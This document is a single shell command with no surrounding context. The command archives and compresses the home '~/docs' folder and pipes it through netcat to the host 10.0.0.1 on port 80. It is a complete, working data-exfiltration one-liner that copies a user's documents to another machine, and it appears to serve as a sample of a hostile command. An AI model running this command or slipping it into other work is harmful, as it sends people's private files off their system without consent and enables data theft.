tar cz ~/docs | nc 10.0.0.1 80
